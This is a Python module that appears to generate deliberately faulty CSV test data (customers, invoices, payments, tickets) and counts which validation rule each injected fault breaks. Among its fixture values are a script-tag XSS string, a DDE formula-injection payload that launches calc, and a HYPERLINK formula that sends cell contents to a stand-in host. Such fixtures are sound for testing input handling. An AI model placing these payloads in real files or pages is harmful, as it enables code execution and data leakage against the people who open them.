"""Canonical names, and everything else as people leave it: each kind of fault, counted."""

from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import numpy as np
import pandas as pd

from sample_data.exports.account import Account, Fault, damaged, sound
from sample_data.exports.balances import base_currency
from sample_data.exports.delimited import as_rows, dated, grouped_number, write_delimited
from sample_data.exports.rates import write_rates

__all__ = ["write_messy"]

DAY = "%d/%m/%Y"
# ISO 4217 keeps XTS for tests: no company has a rate for it.
NO_RATE = "XTS"
LONG_NAME = "Endless " * 1_250
LINK = '=HYPERLINK("https://example.invalid/?"&A1,"Open account")'
SCRIPT = "<script>alert('paid')</script> & Sons"
BEFORE = "01/01/1999"
NOTE = 'Called twice.\nHe said: "Pay, or not?"\n\n-- sent from a phone; no subject'

#: Per table the cells that are changed and the rules the row then breaks; none where a row is
#: strange and yet right.
FAULTS: Mapping[str, Sequence[Fault]] = {
    "customers": (
        ({"name": LONG_NAME.strip()}, ""),
        ({"name": LINK}, ""),
        ({"name": SCRIPT}, ""),
        ({"name": "Two\nlines, one name"}, ""),
        ({"name": None}, "name_present"),
        ({"currency": NO_RATE}, "currency_has_rate"),
        ({"currency": "euros"}, "currency_is_a_code currency_has_rate"),
        ({"acquired_on": "n/a"}, "acquired_on_readable"),
        ({"acquired_on": "15/06/2999"}, "acquired_on_plausible"),
        ({"payment_terms_days": "#REF!"}, "payment_terms_days_readable"),
        ({"payment_terms_days": "-30"}, "payment_terms_days_not_negative"),
        ({"credit_limit": "lots"}, "credit_limit_readable"),
        ({"churned_on": BEFORE}, "churned_on_or_after_acquired"),
        ({"churn_reason": "moved to the moon"}, "churn_reason_allowed"),
    ),
    "invoices": (
        ({"amount": "-250.00"}, "amount_positive"),
        ({"amount": "0.00"}, "amount_positive"),
        ({"amount": "#REF!"}, "amount_readable"),
        ({"amount": "=SUM(F2:F9)"}, "amount_readable"),
        ({"amount": None}, "amount_present"),
        ({"issued_on": "n/a"}, "issued_on_readable"),
        ({"issued_on": "2026-02-30"}, "issued_on_readable"),
        ({"due_on": BEFORE}, "due_on_or_after_issue"),
        ({"customer_id": "C-NOBODY"}, "customer_id_known"),
        ({"customer_id": None}, "customer_id_present"),
        ({"currency": NO_RATE}, "currency_has_rate"),
        ({"channel": "carrier pigeon"}, "channel_allowed"),
        ({"kind": "gift"}, "kind_allowed"),
        ({"due_on": BEFORE, "amount": "-1.00", "customer_id": "C-NOBODY"},
         "due_on_or_after_issue amount_positive customer_id_known"),
    ),
    "payments": (
        ({"amount": "-10.00"}, "amount_positive"),
        ({"amount": "0"}, "amount_positive"),
        ({"amount": "n/a"}, "amount_readable"),
        ({"paid_on": BEFORE}, "paid_on_or_after_issue"),
        ({"paid_on": "#REF!"}, "paid_on_readable"),
        ({"paid_on": None}, "paid_on_present"),
        ({"invoice_id": "INV-NOWHERE"}, "invoice_id_known"),
        ({"method": "wampum"}, "method_allowed"),
    ),
    "tickets": (
        ({"text": NOTE}, ""),
        ({"text": SCRIPT}, ""),
        ({"text": "=cmd|'/c calc'!A0"}, ""),
        ({"topic": "weather"}, "topic_allowed"),
        ({"opened_on": "yesterday"}, "opened_on_readable"),
        ({"resolved_on": BEFORE}, "resolved_on_or_after_opened"),
        ({"handling_minutes": "-5.00"}, "handling_minutes_not_negative"),
        ({"handling_minutes": "#REF!"}, "handling_minutes_readable"),
        ({"customer_id": "C-NOBODY"}, "customer_id_known"),
    ),
}  # fmt: skip
COLUMNS = {
    "customers": ("customer_id", "name", "industry", "employees", "country", "region",
                  "currency", "acquired_on", "acquisition_channel", "acquisition_cost",
                  "payment_terms_days", "credit_limit", "churned_on", "churn_reason"),
    "invoices": ("invoice_id", "customer_id", "issued_on", "due_on", "amount", "currency",
                 "channel", "kind"),
    "payments": ("payment_id", "invoice_id", "paid_on", "amount", "method"),
    "tickets": ("ticket_id", "customer_id", "opened_on", "resolved_on", "topic",
                "handling_minutes", "cost", "text"),
}  # fmt: skip
SUMMED = {"customers": "credit_limit", "invoices": "amount", "payments": "amount",
          "tickets": "cost"}  # fmt: skip
# What is changed in a second row with a key that is there already: neither is taken then.
SAYS_ANOTHER = {
    "customers": {"region": "somewhere else"},
    "invoices": {"amount": "1.00"},
    "payments": {"amount": "1.00"},
    "tickets": {"topic": "other", "text": "another text"},
}
N_BLANK_LINES = 5


def write_messy(
    tables: Mapping[str, pd.DataFrame], folder: Path, rng: np.random.Generator
) -> Account:
    """Four tables with every kind of fault: UTF-8 with BOM, dd/mm/yyyy, thousands parted."""
    account = Account()
    write_rates(tables, folder, account)
    for name, columns in COLUMNS.items():
        _write_table(name, tables[name].reindex(columns=columns), folder, rng, account)
    account.load(list(account.files), currency=base_currency(tables))
    return account


def _write_table(
    name: str, table: pd.DataFrame, folder: Path, rng: np.random.Generator, account: Account
) -> None:
    key, columns = table.columns[0], list(table.columns)
    clean = account.pointing(sound(_as_text(table)), name)
    prefix = f"{name[:2].upper()}-BAD-"
    bad = damaged(clean, FAULTS[name], key, rng, prefix)
    whole = clean[[not rules for rules in clean["rules"]]]
    again, other = (whole.iloc[[place]].copy() for place in rng.choice(len(whole), 2, False))
    # Of an exact repeat the first row is kept.
    again["rules"] = [frozenset({f"{key}_unique"})]
    for column, text in SAYS_ANOTHER[name].items():
        other[column] = text
    rows = pd.concat([clean, bad, other], ignore_index=True)
    twice = rows[key] == other[key].iloc[0]
    rows.loc[twice, "rules"] = [frozenset({f"{key}_unique"})] * int(twice.sum())
    rows = pd.concat([rows, again], ignore_index=True)
    rows = rows.iloc[rng.permutation(len(rows))].reset_index(drop=True)
    shown = as_rows(rows[columns])
    of_no_record = _no_records(columns, SUMMED[name], shown)
    shown += [cells for cells, _ in of_no_record]
    file = f"{name}.csv"
    n_rows = write_delimited(
        folder / file,
        columns,
        shown,
        encoding="utf-8-sig",
        blank_after=rng.choice(len(shown), N_BLANK_LINES, False).tolist(),
    )
    account.has_rows(file, n_rows)
    aside = pd.Series([rule for _, rule in of_no_record]).value_counts().to_dict()
    entered = rows.rename(columns={key: "key"})
    if "amount" in entered:
        plain = entered["amount"].map(lambda text: (text or "").replace(",", ""))
        entered["amount"] = plain
    references = [c for c in ("customer_id", "invoice_id", "amount") if c in entered]
    account.enter(file, name, entered[["key", "rules", *references]], aside)


def _no_records(
    columns: Sequence[str], summed: str, shown: Sequence[Sequence[object]]
) -> list[tuple[list[str | None], str]]:
    """Rows that are no record: cells too many or too few, nothing but marks, a total."""
    first = list(shown[0])
    total = ["Total" if c == columns[0] else "1,234.56" if c == summed else None for c in columns]
    return [
        ([*first, "one too many"], "cell_count"),
        (first[:2], "cell_count"),
        ([None] * len(columns), "blank_row"),
        (total, "totals_row"),
    ]


def _as_text(table: pd.DataFrame) -> pd.DataFrame:
    """Every cell as it is typed where a comma parts thousands and the day comes first."""
    return pd.DataFrame(
        {name: _text_of(name)(table[name]) for name in table.columns}, dtype=object
    ).reset_index(drop=True)


def _text_of(column: str) -> Callable[[pd.Series], pd.Series]:
    if column.endswith("_on"):
        return lambda days: dated(days, DAY)
    if column in ("amount", "credit_limit", "acquisition_cost", "cost", "handling_minutes"):
        return grouped_number
    if column in ("employees", "payment_terms_days"):
        return lambda numbers: grouped_number(numbers, decimals=0)
    return lambda texts: texts.astype(object).where(texts.notna(), None)
